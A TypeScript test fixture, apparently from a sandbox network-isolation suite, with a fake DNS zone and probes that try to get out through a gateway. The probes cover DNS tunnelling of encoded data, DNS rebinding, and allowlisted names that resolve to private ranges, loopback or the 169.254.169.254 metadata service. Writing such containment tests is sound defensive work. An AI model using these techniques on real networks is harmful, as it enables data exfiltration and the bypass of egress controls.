import { everyMode, lan, listed, metadata, publicly, type Technique } from '../technique.ts';

/** What the host's own name server says. Lists hold `api.example.test` and `*.wild.test`. */
export const zone = {
  'api.example.test': [{ type: 'A', data: '198.51.100.12' }],
  'late.wild.test': [{ type: 'A', data: '198.51.100.13' }],
  'private.wild.test': [{ type: 'A', data: '10.7.0.10' }],
  'other.wild.test': [{ type: 'A', data: '192.168.55.10' }],
  'metadata.wild.test': [{ type: 'A', data: '169.254.169.254' }],
  'host.wild.test': [{ type: 'A', data: '203.0.113.1' }],
  'gateway.wild.test': [{ type: 'A', data: '10.90.0.1' }],
  'loopback.wild.test': [{ type: 'A', data: '127.0.0.1' }],
  'alias.wild.test': [{ type: 'CNAME', data: 'inside.example.net' }],
  'inside.example.net': [{ type: 'A', data: '172.20.7.10' }],
} as const;

/** Names that lead elsewhere each time. */
export const turns = {
  'turns.wild.test': ['198.51.100.14', '192.168.77.10'].map((data) => ({ type: 'A', data, ttl: 0 }) as const),
} as const;

export const listedNames = ['api.example.test', '*.wild.test'];

/** Questions to the gateway: who has a list asks coi's resolver, others the bridge's. `$name` is what is asked. */
const asking = (names: string) => `for my $name (${names}) { out(udp($_, 53, data => ask($name))) for $gw4, $gw6;
    talk($_, 53, pack('n/a', ask($name))) for $gw4, $gw6 }`;

const tried = (address: string) => `out(syn($_, 443)), out(syn($_, 80)), out(udp($_, 443)) for at('${address}')`;

export const names: readonly Technique[] = [
  {
    name: 'data in names that no list has, asked of the gateway',
    how: asking(
      `map { mark() . $_ } '.example.org', '.example.test', '.api.example.test', '.wild.test.example.org', '.incus', ''`,
    ),
    arrives: { host: everyMode, internet: publicly },
    bare: ['host', 'internet'],
  },
  {
    name: 'data in long labels below a listed wildcard',
    how: `my $data = 'mzxw6ytboi4dinjsgq3tqnbzgezdgmzrgi2tcnrx'; ${asking(`"$data." . mark() . '.wild.test', mark() . "$data\${\\substr $data, 0, 20}.wild.test", join('.', map { mark() . 'abcdefghijklmnop' } 1 .. 6) . '.wild.test'`)}`,
    arrives: { host: everyMode, internet: publicly },
    bare: ['host', 'internet'],
  },
  {
    name: 'data beside a listed name: EDNS options and additional records',
    how: `my $question = ask('api.example.test'); substr($question, 10, 2) = pack 'n', 1;
      out(udp($_, 53, data => $question . pack('C n n N n/a', 0, 41, 1232, 0, pack('n n/a', 65001, mark())))),
      out(udp($_, 53, data => $question . pack('C/a C n n N n/a', mark(), 0, 16, 1, 60, mark()))) for $gw4, $gw6`,
    arrives: { host: everyMode, internet: publicly },
    contended: true,
    bare: ['host'],
  },
  {
    name: 'mDNS, LLMNR and DNS over TLS at the gateway',
    how: `for my $to ($gw4, $gw6, at('224.0.0.251'), at('ff02::fb')) { out(udp($to, $_, data => ask(mark() . '.local'))) for 853, 5353, 5355 } out(syn($_, 853)) for $gw4, $gw6`,
    bare: ['host'],
  },
  {
    name: 'an address below a wildcard before its name was asked for',
    how: tried('198.51.100.13'),
    arrives: { internet: publicly },
    bare: ['internet'],
  },
  {
    name: 'the same after it was asked for',
    how: `resolve('late.wild.test'); ${tried('198.51.100.13')}`,
    arrives: { internet: everyMode },
    bare: ['internet'],
  },
  {
    name: 'another port of an address that a name led to',
    how: `resolve('api.example.test'); out(syn(at('198.51.100.12'), $_)), out(udp(at('198.51.100.12'), $_)) for 22, 8080`,
    arrives: { internet: publicly },
    bare: ['internet'],
  },
  {
    name: 'a listed name that leads into private networks',
    how: `resolve($_) for qw(private.wild.test other.wild.test); ${tried('10.7.0.10')}; ${tried('192.168.55.10')}`,
    arrives: { private: lan, otherHost: lan },
    bare: ['private', 'otherHost'],
  },
  {
    name: 'a listed name that is an alias into private networks',
    how: `resolve('alias.wild.test'); ${tried('172.20.7.10')}`,
    arrives: { private: lan },
    bare: ['private'],
  },
  {
    name: 'a listed name that leads to the metadata service',
    how: `resolve('metadata.wild.test'); ${tried('169.254.169.254')}`,
    arrives: { private: metadata },
    bare: ['private'],
  },
  {
    name: 'a listed name that leads to the host or to a sibling',
    how: `resolve($_) for qw(host.wild.test gateway.wild.test loopback.wild.test sibling.wild.test); ${['203.0.113.1', '10.90.0.1', '127.0.0.1'].map(tried).join(';')}; out(syn($his4, 443)), out(udp($his4, 443))`,
    bare: ['host', 'sibling'],
  },
  {
    name: 'a listed name that leads elsewhere between check and use',
    how: `for (1 .. 6) { resolve('turns.wild.test'); ${tried('192.168.77.10')}; select(undef, undef, undef, 0.2) }`,
    arrives: { private: lan },
    bare: ['private'],
  },
  {
    name: 'data in many short names below a listed wildcard (a trickle)',
    how: `for my $number (1 .. ($listed ? 250 : 20)) { out(udp($gw4, 53, data => ask(mark() . "n$number.wild.test"))); select(undef, undef, undef, 0.01) }`,
    arrives: { host: everyMode, internet: everyMode },
    bare: ['host', 'internet'],
    // 120 at first, then one each second, and a few that are asked for twice on a busy machine.
    atMost: { modes: listed, spot: 'internet', packets: 160 },
  },
];
